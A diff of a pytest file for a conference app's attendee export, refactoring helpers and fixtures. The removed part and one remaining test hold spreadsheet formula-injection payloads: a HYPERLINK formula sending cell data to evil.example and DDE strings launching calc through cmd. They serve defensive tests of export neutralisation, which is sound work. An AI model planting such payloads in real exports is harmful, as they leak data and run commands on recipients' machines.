@@ -1,69 +1,23 @@
-"""Exports of the attendee list: safe cells, Arabic round trips, roles, audit, memory."""
+"""Exports of the attendee list: the page, columns, roles, streaming, audit, memory."""
 
-import csv
-import io
-import itertools
 import re
 import time
 from datetime import datetime
 
-import openpyxl
 import pytest
 import sqlalchemy as sa
 from flask import render_template_string
 from flask_login import login_user
 
-from conference import access
 from conference.audit import AuditEvent
 from conference.extensions import db
-from conference.manage import export_formats, exports
-from conference.manage.export_formats import neutralise
-from conference.registration import services
+from conference.registration import exports, services
 from conference.registration.models import Place, PlaceStatus, Registration, RegistrationStatus
 from conference.registration.queries import Filters
 
-_numbers = itertools.count(1)
+from ..test_spreadsheets import ARABIC_NAME, read_csv, read_xlsx
 
-ARABIC_NAME = "مُحَمَّد الأَحْمَد"
-HOSTILE = [
-    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
-    "+cmd|' /C calc'!A0",
-    "-2+3+cmd|' /C calc'!A0",
-    "@SUM(1+1)*cmd|' /C calc'!A0",
-    "\t=1+1",
-    "\r=1+1",
-    "＝1+1",  # full-width equals sign
-    "＋1",
-    "－1",
-    "＠SUM(A1)",
-]
-
-
-@pytest.fixture(autouse=True)
-def enforced_access(request):
-    """Run with access enforcement on, whether or not ``create_app`` turns it on yet."""
-    if "app" in request.fixturenames:
-        app = request.getfixturevalue("app")
-        if not any(f.__name__ == "enforce_access" for f in app.before_request_funcs[None]):
-            access.init_app(app)
-
-
-@pytest.fixture
-def register(conference):
-    """Register someone through the service: ``register(tracks=[...], full_name=...)``."""
-
-    def _register(email=None, tracks=("arts",), **overrides):
-        values = {
-            "email": email or f"person{next(_numbers)}@example.org",
-            "full_name": "Ada Lovelace",
-            "track_keys": list(tracks),
-            "language": "en",
-            "privacy_accepted": True,
-            **overrides,
-        }
-        return services.register_attendee(conference, **values).registration
-
-    return _register
+pytestmark = pytest.mark.usefixtures("enforced_access")
 
 
 def export(client, columns=("id", "full_name", "email"), file_format="csv", **filters):
@@ -73,102 +27,23 @@ def export(client, columns=("id", "full_name", "email"), file_format="csv", **fi
     )
 
 
-def read_csv(data):
-    assert data.startswith(b"\xef\xbb\xbf"), "UTF-8 byte-order mark first, for Excel"
-    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
-
-
-def read_xlsx(data):
-    workbook = openpyxl.load_workbook(io.BytesIO(data))
-    return workbook.active
-
-
 def exported_events():
     return db.session.scalars(
         sa.select(AuditEvent).filter_by(action="attendees.exported").order_by(AuditEvent.id)
     ).all()
 
 
-# --- Cells a spreadsheet would run -------------------------------------------------------
-
-
-@pytest.mark.parametrize("value", HOSTILE)
-def test_neutralise_prefixes_formula_triggers_with_an_apostrophe(value):
-    assert neutralise(value) == "'" + value
-
-
-@pytest.mark.parametrize(
-    "value", ["Ada", ARABIC_NAME, "", "1-2", "a=b", "ada@example.org", 42, None]
-)
-def test_neutralise_leaves_ordinary_values_alone(value):
-    assert neutralise(value) == value
-
-
-def test_csv_round_trip_keeps_arabic_quotes_and_line_breaks_and_neutralises_formulas():
-    rows = [
-        [1, ARABIC_NAME, 'Say "hi", then\r\nleave'],
-        *[[n, value, None] for n, value in enumerate(HOSTILE, start=2)],
-    ]
-
-    data = b"".join(chunk for chunk, _count in export_formats.csv_chunks(["#", "الاسم"], rows))
-
-    header, first, *hostile = read_csv(data)
-    assert header == ["#", "الاسم"]
-    assert first == ["1", ARABIC_NAME, 'Say "hi", then\r\nleave']
-    assert [row[1] for row in hostile] == ["'" + value for value in HOSTILE]
-    assert b"\r\n" in data
-    assert b"\n\n" not in data
-
-
-def test_csv_chunks_count_the_rows_they_carry():
-    rows = ([n, "x" * 100] for n in range(5000))
-
-    pieces = list(export_formats.csv_chunks(["n", "text"], rows, chunk_size=16 * 1024))
-
-    assert len(pieces) > 10
-    assert sum(count for _data, count in pieces) == 5000
-    assert all(len(data) < 17 * 1024 for data, _count in pieces)
-
-
-def test_xlsx_round_trip_keeps_arabic_and_writes_formulas_as_text_cells_unchanged(tmp_path):
-    path = tmp_path / "out.xlsx"
-    rows = [[1, ARABIC_NAME], *[[n, value] for n, value in enumerate(HOSTILE, start=2)]]
-
-    with path.open("wb") as handle:
-        count = export_formats.write_xlsx(
-            handle, ["#", "الاسم"], rows, title="الحضور", right_to_left=True
-        )
-
-    sheet = openpyxl.load_workbook(path).active
-    assert count == len(rows)
-    assert sheet.title == "الحضور"
-    assert sheet.sheet_view.rightToLeft is True
-    assert [cell.value for cell in sheet[2]] == [1, ARABIC_NAME]
-    cells = [sheet.cell(row=n + 3, column=2) for n in range(len(HOSTILE))]
-    # (XML readers turn a lone carriage return into a line feed.)
-    assert [cell.value for cell in cells] == [v.replace("\r", "\n") for v in HOSTILE]
-    assert {cell.data_type for cell in cells} == {"s"}  # never "f" (formula)
-    assert all(cell.quotePrefix for cell in cells)  # editing the cell keeps it text
-
-
-def test_xlsx_writes_strings_even_when_they_look_like_errors_or_hold_control_characters():
-    buffer = io.BytesIO()
-
-    export_formats.write_xlsx(buffer, ["a", "b"], [["#N/A", "bell\x07 and tab\x0b"]])
-
-    sheet = openpyxl.load_workbook(io.BytesIO(buffer.getvalue())).active
-    assert [(c.value, c.data_type) for c in sheet[2]] == [("#N/A", "s"), ("bell and tab", "s")]
-
-
 # --- The page and the download ----------------------------------------------------------
 
 
 def test_organizer_exports_the_filtered_list_as_csv_with_the_chosen_columns(
-    client, login_as, register
+    client, login_as, make_registration
 ):
-    ada = register(full_name="Ada Lovelace", tracks=["arts", "social"], phone="+1 202 555 0143")
-    register(full_name="Grace Hopper", tracks=["cultural"])
-    arab = register(full_name=ARABIC_NAME, tracks=["arts"], language="ar")
+    ada = make_registration(
+        full_name="Ada Lovelace", tracks=["arts", "social"], phone="+1 202 555 0143"
+    )
+    make_registration(full_name="Grace Hopper", tracks=["cultural"])
+    arab = make_registration(full_name=ARABIC_NAME, tracks=["arts"], language="ar")
     organizer = login_as("organizer")
 
     response = export(
@@ -208,10 +83,10 @@ def test_organizer_exports_the_filtered_list_as_csv_with_the_chosen_columns(
     }
 
 
-def test_every_column_can_be_exported(client, login_as, register, make_conference):
+def test_every_column_can_be_exported(client, login_as, make_registration, make_conference):
     make_conference(arts_capacity=1)
-    register(full_name="First", tracks=["arts"])
-    second = register(
+    make_registration(full_name="First", tracks=["arts"])
+    second = make_registration(
         full_name="Second",
         tracks=["arts", "social"],
         city="Dearborn",
@@ -238,9 +113,11 @@ def test_every_column_can_be_exported(client, login_as, register, make_conferenc
     assert re.fullmatch(r"\d{4}-\d\d-\d\d \d\d:\d\d", values["registered_at"])
 
 
-def test_cancelled_registrations_are_exported_only_when_asked_for(client, login_as, register):
-    kept = register(full_name="Kept")
-    gone = register(full_name="Gone")
+def test_cancelled_registrations_are_exported_only_when_asked_for(
+    client, login_as, make_registration
+):
+    kept = make_registration(full_name="Kept")
+    gone = make_registration(full_name="Gone")
     services.cancel_registration(gone)
     login_as("organizer")
 
@@ -251,10 +128,12 @@ def test_cancelled_registrations_are_exported_only_when_asked_for(client, login_
     assert cancelled[1:] == [[str(gone.id), "Cancelled"]]
 
 
-def test_xlsx_export_keeps_arabic_and_formula_like_text_as_text(client, login_as, register):
-    register(full_name=ARABIC_NAME)
-    register(full_name='=HYPERLINK("http://evil.example","x")')
-    register(full_name="+cmd", phone="+1 (313) 555-0100")
+def test_xlsx_export_keeps_arabic_and_formula_like_text_as_text(
+    client, login_as, make_registration
+):
+    make_registration(full_name=ARABIC_NAME)
+    make_registration(full_name='=HYPERLINK("http://evil.example","x")')
+    make_registration(full_name="+cmd", phone="+1 (313) 555-0100")
     login_as("organizer")
 
     response = export(client, columns=["full_name", "phone"], file_format="xlsx")
@@ -284,8 +163,8 @@ def test_xlsx_export_keeps_arabic_and_formula_like_text_as_text(client, login_as
     )
 
 
-def test_an_arabic_page_gets_a_right_to_left_sheet(client, login_as, register):
-    register(full_name=ARABIC_NAME)
+def test_an_arabic_page_gets_a_right_to_left_sheet(client, login_as, make_registration):
+    make_registration(full_name=ARABIC_NAME)
     login_as("organizer")
     client.set_cookie("lang", "ar")
 
@@ -335,8 +214,8 @@ def test_bad_answers_get_the_form_back_with_an_error(client, login_as, conferenc
 
 
 @pytest.mark.parametrize("role", ["checkin", "coordinator", "sponsor"])
-def test_only_admins_and_organizers_can_export(client, login_as, register, role):
-    register()
+def test_only_admins_and_organizers_can_export(client, login_as, make_registration, role):
+    make_registration()
     login_as(role)
 
     assert client.get("/manage/export").status_code == 403
@@ -353,7 +232,9 @@ def test_signed_out_visitors_are_sent_to_sign_in(client):
 
 
 def test_the_export_link_carries_the_filters_and_shows_only_to_those_who_may_export(app, make_user):
-    template = '{% from "manage/_export_link.html" import export_link %}{{ export_link(filters) }}'
+    template = (
+        '{% from "registration/_export_link.html" import export_link %}{{ export_link(filters) }}'
+    )
     filters = Filters(track="arts", q="أحمد")
 
     def render(role):
